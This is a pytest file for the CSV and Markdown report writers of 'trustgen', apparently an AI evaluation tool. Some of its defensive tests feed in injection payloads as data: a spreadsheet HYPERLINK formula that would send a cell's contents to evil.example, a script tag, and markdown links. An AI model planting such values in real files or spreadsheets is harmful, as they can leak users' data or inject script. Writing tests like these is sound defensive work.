"""Markdown for a comment, CSV for everything else."""

from __future__ import annotations

import csv
import dataclasses
import json
import math
from pathlib import Path

import msgspec
import pytest
from made_run import COWARD, FACTS, SMALL, make_run
from markdown_it import MarkdownIt
from pages import NOTHING, Page, estimate, renamed, with_estimates

from trustgen.core import OUTCOMES, InputError
from trustgen.report import Findings, findings, write_csv, write_markdown


def rows_of(found: Findings, folder: Path) -> list[dict[str, str]]:
    with write_csv(found, folder / "report.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def rendered(found: Findings, folder: Path) -> tuple[str, Page]:
    text = write_markdown(found, folder / "report.md").read_text("utf-8")
    return text, Page.read(MarkdownIt("commonmark").enable("table").render(text))


def test_csv_has_one_row_an_estimate_with_all_its_fields(run: Path, tmp_path: Path) -> None:
    found = findings(run)
    rows = rows_of(found, tmp_path)
    assert len(rows) == len(found.estimates) == 3 * (4 + 5 + 3 + 2)
    for row, e in zip(rows, found.estimates, strict=True):
        for name in ("task", "model", "arm", "measure", "method", "unit", "judge"):
            assert row[name] == getattr(e, name)
        for name in ("value", "low", "high", "worst", "best"):
            assert float(row[name]) == getattr(e, name) or math.isnan(float(row[name])) == math.isnan(getattr(e, name))
        assert (float(row["range_low"]), float(row["range_high"])) == e.range
        assert [int(row[name]) for name in ("planned", "counted", "clusters")] == [e.planned, e.counted, e.clusters]
        assert sum(int(row[o]) for o in OUTCOMES) == e.planned
        assert row["target"] == ("" if e.target is None else str(e.target))
        assert (row["headline"], row["simulated"]) == (str(int(e.headline)), str(int(e.model == COWARD)))
        assert json.loads(row["notes"]).keys() == e.notes.keys()


def test_no_cell_of_the_csv_is_a_formula(run: Path, tmp_path: Path) -> None:
    """The name of a model is whatever a run's folder says."""
    found = findings(run)
    model = '=HYPERLINK("http://evil.example/?"&A1)'
    estimates = [msgspec.structs.replace(e, model=model) for e in found.estimates]
    write_csv(dataclasses.replace(found, estimates=estimates), tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
        assert {row["model"] for row in csv.DictReader(file)} == {f"'{model}"}


def test_csv_writes_nothing_counted_as_nan(run: Path, tmp_path: Path) -> None:
    (row,) = rows_of(
        with_estimates(findings(run), estimate(FACTS, SMALL, **NOTHING, notes={"x": [math.nan]})), tmp_path
    )
    assert {row[name] for name in ("value", "low", "high", "worst", "best")} == {"nan"}
    assert row["notes"] == '{"x": [null]}'


def test_markdown_is_a_table_with_denominators(run: Path, tmp_path: Path) -> None:
    found = findings(run)
    text, page = rendered(with_estimates(found, estimate(FACTS, SMALL)), tmp_path)
    assert len(page.all("table")) == 1
    assert len(page.all("td")) == 9
    numbers = "0.812 | [0.765, 0.852] | [0.765, 0.852] | 391/400 cases | 0.794 to 0.817 | 6 refused, 3 error"
    assert f"| `Facts` | `accuracy` ↑ | `smollm2` | {numbers} |" in text
    assert "520 planned = 520 scored cases" in text
    assert "Judged by rule 100 %" in text


def test_markdown_folds_what_is_not_a_headline(run: Path, tmp_path: Path) -> None:
    text, page = rendered(findings(run), tmp_path)
    assert len(page.all("table")) == 2
    assert "<details><summary>30 other numbers</summary>" in text
    assert text.count("(SIMULATED)") == 14 + 1
    assert "| – | nothing counted | – | 0/160 answers | – |" in text


def test_markdown_of_a_stopped_run_says_why(stopped: Path, tmp_path: Path) -> None:
    text, _ = rendered(findings(stopped), tmp_path)
    assert "suite `core`, stopped" in text.splitlines()[0]
    assert "> **Stopped**: `budget of 500 calls reached [bold]‹U+001B›[31m`" in text


def test_no_name_leaves_its_cell(run: Path, tmp_path: Path) -> None:
    evil = "a|b``c`<script>x</script>\n\n# big @someone [x](http://evil.example)"
    found = renamed(findings(run), SMALL, evil)
    _, page = rendered(found, tmp_path)
    assert not page.all("script")
    assert not page.all("a")
    assert not page.all("h1")
    rows = len(found.estimates)
    assert len(page.all("td")) == 9 * rows, "no bar opened a cell"
    assert page.text.count("a|b``c`<script>x</script> # big @someone [x](http://evil.example)") == 14 + 1


def test_no_field_of_a_foreign_run_is_markdown(run: Path, tmp_path: Path) -> None:
    bad = "<b>x</b> [y](http://evil.example) **z** `w` | @v"
    found = with_estimates(findings(run), estimate(FACTS, SMALL, measure=bad, method=bad, unit=bad, value=math.nan))
    _, page = rendered(found, tmp_path)
    assert len(page.all("td")) == 9
    assert not {"a", "b", "strong"} & {tag for tag, _ in page.tags}
    assert page.text.count("<b>x</b> [y](http://evil.example) **z** `w` | @v") == 3


def test_a_place_that_cannot_be_written_is_named(run: Path, tmp_path: Path) -> None:
    for write in (write_csv, write_markdown):
        with pytest.raises(InputError, match="choose another place with -o"):
            write(findings(run), tmp_path / "none" / "x")


def test_numbers_of_one_model_need_no_plural(tmp_path: Path) -> None:
    text, _ = rendered(findings(make_run(tmp_path / "run", n=2, models=(SMALL,))), tmp_path)
    assert "1 model, 4 tasks" in text
